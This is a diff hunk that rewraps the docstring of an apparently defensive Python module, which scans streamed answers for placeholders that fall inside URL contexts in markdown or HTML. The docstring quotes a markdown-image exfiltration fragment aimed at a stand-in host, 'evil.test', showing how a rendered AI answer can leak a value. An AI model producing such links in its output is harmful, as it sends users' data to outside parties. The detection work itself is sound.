@@ -3,8 +3,8 @@
 A vendor that writes `![x](https://evil.test/?q=` before a placeholder would be sent the value as soon as the answer is
 shown. This reads an answer from its beginning, a piece at a time, in constant memory, and knows at each point whether
 what follows belongs to an address: a markdown target (CommonMark 6.3, 4.7), an HTML attribute value (WHATWG HTML
-13.2.5) or a bare address (GFM 6.9). Where readers of markdown and HTML could disagree, each reading is followed at once; the
-answer is yes when one of them says yes.
+13.2.5) or a bare address (GFM 6.9). Where readers of markdown and HTML could disagree, each reading is followed at
+once; the answer is yes when one of them says yes.
 """
 
 from __future__ import annotations
